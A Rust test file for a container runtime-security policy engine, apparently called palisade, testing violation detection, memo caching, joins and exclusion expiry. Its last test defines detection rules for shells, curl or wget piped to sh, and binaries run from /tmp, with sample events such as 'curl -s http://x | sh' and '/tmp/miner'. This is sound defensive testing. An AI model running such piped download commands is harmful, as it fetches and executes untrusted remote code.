//! The embedding example of docs/embedding.md runs and finds what it says it finds.

#[path = "../examples/embed.rs"]
#[allow(dead_code, reason = "the example's main is for `cargo run`")]
mod embed;

#[test]
fn the_embedding_example_finds_both_violations_with_their_explanations() {
    let violations = embed::run();
    let Ok(violations) = violations else {
        unreachable!("the example runs: {violations:?}")
    };
    let found: Vec<(&str, &str, &str)> = violations
        .iter()
        .map(|v| {
            (
                v.policy.as_str(),
                v.record.kind.as_str(),
                v.record.id.as_str(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("Privileged container", "deployment", "d1"),
            ("Shell in a container", "process", "e1")
        ]
    );
    assert!(
        violations
            .iter()
            .all(|v| v.explain.as_ref().is_some_and(|steps| !steps.is_empty()))
    );
    assert_eq!(
        violations[1].messages,
        ["/bin/bash started in container agent"]
    );
}

/// docs/embedding.md: threads share one matcher and one dataset.
#[test]
fn matchers_and_datasets_are_shared_between_threads() {
    fn shared<T: Send + Sync>() {}
    shared::<palisade_engine::Matcher>();
    shared::<palisade_engine::Dataset>();
}

/// docs/embedding.md: an event's join kept as numbers gives the violation a fresh lookup
/// gives, through the `PolicySet` trait.
#[test]
fn a_kept_join_evaluates_as_a_fresh_one() {
    let kept = embed::run_kept();
    let Ok(kept) = kept else {
        unreachable!("the example runs: {kept:?}")
    };
    let Ok(fresh) = embed::run() else {
        unreachable!("the example runs")
    };
    assert_eq!(kept.len(), 1);
    assert_eq!(kept[0].policy, "Shell in a container");
    assert_eq!(kept[0].messages, fresh[1].messages);
    assert_eq!(kept[0].record.id, "e1");
}

mod api {
    use palisade_engine::record::{Process, Record};
    use palisade_engine::value::{Ctx, Obj};
    use palisade_engine::{Dataset, EvalOptions, Matcher, PolicySet};
    use palisade_lang::{SourceFile, Sources};

    const NOW: i64 = 1_795_000_000;

    /// A deploy-time policy over image vulnerabilities (evaluated through the per-image
    /// memo), a runtime one with an exclusion that expires at the end of 2026-06-30, and
    /// their records.
    const POLICIES: &str = r#"
policy "Fixable CVSS >= 7" {
  severity high
  lifecycle deploy
  soc2 CC7.1
  when vuln.fixable and vuln.cvss >= 7
  message "{vuln.id}"
}

policy "Shell" {
  severity high
  lifecycle runtime
  soc2 CC7.2
  when process.name == "bash"
  message "{process.exec_path}"
  exclude namespace "debug" because "a debugging namespace" until 2026-06-30
}
"#;

    fn matcher() -> Matcher {
        let mut sources = Sources::default();
        sources.add(SourceFile::new("t.pal", POLICIES));
        let (_, checked) = palisade_lang::parse_and_check_policies(&sources);
        let Ok(set) = checked else {
            unreachable!("the policies check")
        };
        let Ok(program) = palisade_engine::compile(&set) else {
            unreachable!("the policies compile")
        };
        let Ok(m) = Matcher::new(program) else {
            unreachable!("the matcher loads")
        };
        m
    }

    /// `n` deployments sharing three scanned images, each with a fixable critical CVE.
    fn dataset(n: usize) -> Dataset {
        let mut ds = Dataset::default();
        for i in 0..3 {
            let image = serde_json::from_value(serde_json::json!({
                "id": format!("sha256:{i}"),
                "name": {"full_name": format!("registry.example.com/app{i}:1")},
                "scan": {"components": [{"name": "openssl", "version": "3.0.1", "vulns": [
                    {"id": format!("CVE-2024-{i}"), "cvss": 9.1, "fixed_by": "3.0.2"}]}]}
            }));
            let Ok(image) = image else {
                unreachable!("an image record")
            };
            let _ = ds.add(Record::Image(image));
        }
        for i in 0..n {
            let d = serde_json::from_value(serde_json::json!({
                "id": format!("d{i}"), "name": format!("app{i}"), "namespace": "shop",
                "containers": [{"name": "app", "image": {"id": format!("sha256:{}", i % 3)}}]
            }));
            let Ok(d) = d else {
                unreachable!("a deployment record")
            };
            let _ = ds.add(Record::Deployment(d));
        }
        ds.finish();
        ds
    }

    fn opts(now: i64) -> EvalOptions {
        EvalOptions {
            now,
            include_disabled: false,
            stage: None,
        }
    }

    /// Hits over every deployment of `ds`, through any policy set.
    fn deployment_hits(set: &impl PolicySet, ds: &Dataset) -> usize {
        let mut hits = 0;
        for d in &ds.deployments {
            let root = Obj::Deployment(d);
            let ctx = Ctx::new(ds, root, NOW);
            let _ = set.evaluate(&ctx, root, &opts(NOW), |_| hits += 1);
        }
        hits
    }

    /// docs/embedding.md: each matcher owns its per-image memo; two matchers alternating
    /// on one thread keep their entries, and clearing one forgets only its own.
    #[test]
    fn matchers_keep_their_own_image_memo_and_clear_it() {
        let (a, b) = (matcher(), matcher());
        let ds = dataset(30);
        assert_eq!(deployment_hits(&a, &ds), 30);
        let a_entries = a.image_memo().entries_on_this_thread();
        assert_eq!(a_entries, 3, "one entry per image: {a_entries}");
        assert_eq!(deployment_hits(&b, &ds), 30);
        assert_eq!(b.image_memo().entries_on_this_thread(), 3);
        assert_eq!(
            a.image_memo().entries_on_this_thread(),
            3,
            "b's evaluation left a's entries alone"
        );
        a.clear_memo();
        assert_eq!(a.image_memo().entries_on_this_thread(), 0);
        assert_eq!(b.image_memo().entries_on_this_thread(), 3);
        // Cleared, the results are the same (recomputed).
        assert_eq!(deployment_hits(&a, &ds), 30);
        assert_eq!(a.image_memo().entries_on_this_thread(), 3);
    }

    /// The memo is per thread: another thread's entries are its own, and a clear on one
    /// thread reaches the others.
    #[test]
    fn the_memo_is_per_thread_and_a_clear_reaches_every_thread() {
        let m = matcher();
        let ds = dataset(9);
        std::thread::scope(|s| {
            let worker = s.spawn(|| {
                let hits = deployment_hits(&m, &ds);
                (hits, m.image_memo().entries_on_this_thread())
            });
            assert_eq!(worker.join().ok(), Some((9, 3)));
        });
        assert_eq!(m.image_memo().entries_on_this_thread(), 0);
        assert_eq!(deployment_hits(&m, &ds), 9);
        std::thread::scope(|s| {
            m.clear_memo();
            let worker = s.spawn(|| m.image_memo().entries_on_this_thread());
            assert_eq!(worker.join().ok(), Some(0));
        });
    }

    /// A bash process in `namespace`, of deployment `d1` unless it is `debug` (where no
    /// deployment of the dataset could give it another namespace).
    fn bash(namespace: &str) -> Process {
        Process {
            id: "e1".into(),
            namespace: Some(namespace.into()),
            deployment_id: (namespace != "debug").then(|| "d1".into()),
            container: Some("app".into()),
            name: Some("bash".into()),
            exec_path: Some("/bin/bash".into()),
            ..Process::default()
        }
    }

    /// A join kept as numbers resolves to what a fresh lookup finds, on the dataset that
    /// made it; on another dataset, or once this one changed, it is refused.
    #[test]
    fn kept_joins_resolve_only_on_the_dataset_that_made_them() {
        let mut ds = dataset(3);
        let p = bash("shop");
        let join = ds.join_index(Obj::Process(&p));
        assert_eq!(join.deployment(), Some(1));
        assert_eq!(join.container(), Some(0));
        assert_eq!(join.baseline(), None);
        let Ok(resolved) = ds.resolve_join(join) else {
            unreachable!("the join resolves on its dataset")
        };
        let fresh = ds.join(Obj::Process(&p));
        assert!(std::ptr::eq(
            resolved
                .deployment
                .map_or(std::ptr::null(), |d| d as *const _),
            fresh.deployment.map_or(std::ptr::null(), |d| d as *const _)
        ));
        assert_eq!(resolved.deployment.map(|d| d.id.as_str()), Some("d1"));
        assert_eq!(resolved.container.map(|c| c.name.as_str()), Some("app"));
        // Another dataset with the same records: refused, not misread.
        let other = dataset(3);
        assert!(other.resolve_join(join).is_err());
        assert!(Ctx::with_join(&other, join, NOW).is_err());
        // A join nobody made (the default): refused.
        assert!(ds.resolve_join(Default::default()).is_err());
        // The dataset changed (a record added, indexes renewed): refused.
        let Ok(d) = serde_json::from_value(serde_json::json!({"id": "d9", "name": "x"})) else {
            unreachable!("a deployment")
        };
        let _ = ds.add(Record::Deployment(d));
        assert!(ds.resolve_join(join).is_err(), "added, not finished");
        ds.finish();
        assert!(ds.resolve_join(join).is_err(), "finished again");
        let again = ds.join_index(Obj::Process(&p));
        assert!(ds.resolve_join(again).is_ok());
    }

    /// One clock per evaluation: `evaluate` expires exclusions on the context's clock
    /// (the one field ages read), whatever the options say.
    #[test]
    fn evaluate_reads_one_clock_the_contexts() {
        let m = matcher();
        let ds = dataset(3);
        let p = bash("debug");
        let root = Obj::Process(&p);
        let before_expiry = 1_782_000_000; // 2026-06-21
        let after_expiry = 1_783_500_000; // 2026-07-08
        let hits = |ctx_now: i64, opts_now: i64| {
            let ctx = Ctx::new(&ds, root, ctx_now);
            let mut n = 0;
            let _ = m.evaluate(&ctx, root, &opts(opts_now), |_| n += 1);
            n
        };
        assert_eq!(hits(before_expiry, before_expiry), 0, "excluded");
        assert_eq!(hits(after_expiry, after_expiry), 1, "the exclusion expired");
        assert_eq!(
            hits(before_expiry, after_expiry),
            0,
            "the context's clock decides"
        );
        assert_eq!(
            hits(after_expiry, before_expiry),
            1,
            "the context's clock decides"
        );
        // `check` gives the context the options' clock.
        let check = |now: i64| {
            m.check(&ds, root, &opts(now), false)
                .map_or(usize::MAX, |(v, _)| v.len())
        };
        assert_eq!(check(before_expiry), 0);
        assert_eq!(check(after_expiry), 1);
    }
}

/// docs/embedding.md: `Matcher::context` looks up an event's joins only when a rule of
/// its kind reads them (a quantifier over its deployment or container, a baseline field,
/// a scope, a message), and the hits equal those of a context with every join.
#[test]
fn a_context_joins_only_what_the_rules_read() {
    use palisade_engine::record::{Process, Record};
    use palisade_engine::value::{Ctx, Obj};
    use palisade_engine::{Dataset, EvalOptions, Matcher};
    fn matcher(when: &str, extra: &str) -> Matcher {
        loaded(&format!(
            "policy \"p\" {{ severity high lifecycle runtime soc2 CC7.2 {extra} when {when} }}"
        ))
    }
    let mut ds = Dataset::default();
    let records = [
        r#"{"kind": "deployment", "id": "d1", "name": "web", "namespace": "prod",
            "containers": [{"name": "app", "security_context": {"privileged": true}}]}"#,
        r#"{"kind": "baseline", "deployment_id": "d1", "container": "app", "locked": true,
            "processes": ["/usr/bin/app"]}"#,
    ];
    for r in records {
        let Ok(record) = serde_json::from_str::<Record>(r) else {
            unreachable!("{r} reads")
        };
        assert!(ds.add(record).is_ok());
    }
    ds.finish();
    let events: Vec<Process> = ["/bin/sh", "/usr/bin/app"]
        .iter()
        .map(|path| Process {
            id: path.to_string(),
            deployment_id: Some("d1".into()),
            container: Some("app".into()),
            namespace: Some("prod".into()),
            name: path.rsplit('/').next().map(str::to_string),
            exec_path: Some(path.to_string()),
            ..Process::default()
        })
        .collect();
    let opts = EvalOptions {
        now: 1_795_000_000,
        include_disabled: false,
        stage: None,
    };
    let cases = [
        ("process.name == \"sh\"", "", false),
        ("process.exec_path startswith \"/bin/\"", "", false),
        ("process.outside_baseline", "", true),
        ("process.baseline == \"x\"", "", true),
        ("process.name == \"sh\" and container.privileged", "", true),
        (
            "process.name == \"sh\" and deployment.namespace == \"prod\"",
            "",
            true,
        ),
        ("process.name == \"sh\"", "scope namespace \"prod\"", true),
        (
            "process.name == \"sh\"",
            "message \"{process.exec_path} outside {process.baseline}\"",
            true,
        ),
    ];
    for (when, extra, joins) in cases {
        let m = matcher(when, extra);
        for p in &events {
            let root = Obj::Process(p);
            let lean = m.context(&ds, root, opts.now);
            assert_eq!(lean.join.deployment.is_some(), joins, "{when} {extra}");
            let full = Ctx::new(&ds, root, opts.now);
            let (mut a, mut b) = (Vec::new(), Vec::new());
            assert!(m.evaluate(&lean, root, &opts, |h| a.push(h.rule)).is_ok());
            assert!(m.evaluate(&full, root, &opts, |h| b.push(h.rule)).is_ok());
            assert_eq!(a, b, "{when} {extra} on {}", p.id);
        }
    }
}

/// `Matcher::check` renders a violation whose condition binds nothing without evaluating
/// it again (the evaluation just saw it hold); its messages equal those of
/// `Matcher::violation_of`, which does evaluate it again, so a hit the caller made up
/// renders no message.
#[test]
fn a_violation_reads_as_violation_of_renders_it_and_a_made_up_hit_renders_no_message() {
    use palisade_engine::matcher::Hit;
    use palisade_engine::record::Process;
    use palisade_engine::value::Obj;
    use palisade_engine::{Dataset, EvalOptions};
    let text = r#"
        policy "shell" { severity high lifecycle runtime soc2 CC7.2 when process.name in ["sh", "bash"] }
        policy "piped" { severity high lifecycle runtime soc2 CC7.2
            when process.name in ["curl", "wget"] and process.args contains /\|\s*sh/ }
        policy "tmp" { severity high lifecycle runtime soc2 CC7.2
            message "{process.exec_path} ran from /tmp"
            when process.exec_path startswith "/tmp/" }
    "#;
    let m = loaded(text);
    let mut ds = Dataset::default();
    ds.finish();
    let opts = EvalOptions {
        now: 1_795_000_000,
        include_disabled: false,
        stage: None,
    };
    let event = |name: &str, path: &str, args: &str| Process {
        id: name.to_string(),
        name: Some(name.to_string()),
        exec_path: Some(path.to_string()),
        args: Some(args.to_string()),
        ..Process::default()
    };
    let events = [
        event("bash", "/bin/bash", "-i"),
        event("curl", "/usr/bin/curl", "-s http://x | sh"),
        event("curl", "/usr/bin/curl", "-s http://x"),
        event("miner", "/tmp/miner", ""),
        event("server", "/app/server", ""),
    ];
    let mut fired = Vec::new();
    for e in &events {
        let root = Obj::Process(e);
        let Ok((violations, _)) = m.check(&ds, root, &opts, false) else {
            unreachable!("{} checks", e.id)
        };
        let ctx = m.context(&ds, root, opts.now);
        let mut again = Vec::new();
        let _ = m.evaluate(&ctx, root, &opts, |hit| {
            again.extend(m.violation_of(hit, root, &ctx, false));
        });
        assert_eq!(violations, again, "{}", e.id);
        fired.extend(
            violations
                .iter()
                .map(|v| (v.policy.clone(), v.messages.clone())),
        );
    }
    assert_eq!(
        fired,
        [
            (
                "shell".to_string(),
                vec!["shell: process '/bin/bash'".to_string()]
            ),
            (
                "piped".to_string(),
                vec!["piped: process '/usr/bin/curl'".to_string()]
            ),
            (
                "tmp".to_string(),
                vec!["/tmp/miner ran from /tmp".to_string()]
            ),
        ]
    );
    // The server fires nothing; a hit of "shell" made up for it is evaluated, and fails.
    let server = Obj::Process(&events[4]);
    let ctx = m.context(&ds, server, opts.now);
    let made_up = m.violation_of(Hit { rule: 0, policy: 0 }, server, &ctx, false);
    let Some(made_up) = made_up else {
        unreachable!("rule 0 is policy 0's rule for processes")
    };
    assert_eq!(made_up.policy, "shell");
    assert!(made_up.messages.is_empty(), "{:?}", made_up.messages);
}

/// The matcher of policy source `text`.
fn loaded(text: &str) -> palisade_engine::Matcher {
    let mut sources = palisade_lang::Sources::default();
    sources.add(palisade_lang::SourceFile::new("p.pal", text.to_string()));
    let (_, checked) = palisade_lang::parse_and_check_policies(&sources);
    let Ok(set) = checked else {
        unreachable!("{text} checks: {checked:?}")
    };
    let Ok(program) = palisade_engine::compile(&set) else {
        unreachable!("{text} compiles")
    };
    let Ok(m) = palisade_engine::Matcher::new(program) else {
        unreachable!("{text} loads")
    };
    m
}
